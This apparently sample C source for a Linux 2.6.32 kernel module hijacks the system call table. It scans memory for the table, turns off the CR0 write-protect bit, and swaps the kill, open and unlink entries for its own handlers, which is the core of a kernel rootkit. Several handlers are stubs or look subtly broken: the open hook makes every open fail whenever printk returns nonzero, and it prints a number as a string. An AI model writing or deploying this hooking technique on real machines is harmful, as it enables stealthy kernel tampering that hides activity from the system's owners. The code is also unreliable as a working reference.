/* The shape of the founding module: a table found at run time, several entries replaced and restored (2.6.32). */
#define SIZE_OF_MODULE 0x260
#include "module.h"
MODULE("Proprietary", "2.6.32-754.6.3.el6.x86_64 SMP mod_unload modversions ")

extern long sys_close(uint);
extern int printk(const char *, ...);

typedef long (*call_t)(long, long, long);
static call_t *table;
static call_t old_kill, old_open, old_unlink;

noinline int get_process_name(int pid, char *buffer) { return printk("%d %p\n", pid, buffer); }

static long new_sys_kill(long pid, long sig, long c)
{
	char name[16];
	get_process_name((int)pid, name);
	return old_kill(pid, sig, c);
}
static long new_open_f(long a, long b, long c) { return printk("open %s\n", a) ? -1 : old_open(a, b, c); }
static long new_unlink(long a, long b, long c) { return old_unlink(a, b, c); }

static noinline call_t *find_table(void)
{
	ulong at;
	for (at = 0xffffffff81000000UL; at < 0xffffffff82000000UL; at += 8)
		if (((call_t *)at)[3] == (call_t)sys_close)
			return (call_t *)at;
	return NULL;
}

int __init init_module(void)
{
	ulong cr0 = read_cr0();
	table = find_table();
	if (!table)
		return -1;
	old_kill = table[62];
	old_open = table[2];
	old_unlink = table[87];
	write_cr0(cr0 & ~0x10000UL);
	table[62] = new_sys_kill;
	table[2] = new_open_f;
	table[87] = new_unlink;
	write_cr0(cr0);
	return 0;
}

void __exit cleanup_module(void)
{
	ulong cr0 = read_cr0();
	write_cr0(cr0 & ~0x10000UL);
	table[62] = old_kill;
	table[2] = old_open;
	table[87] = old_unlink;
	write_cr0(cr0);
}
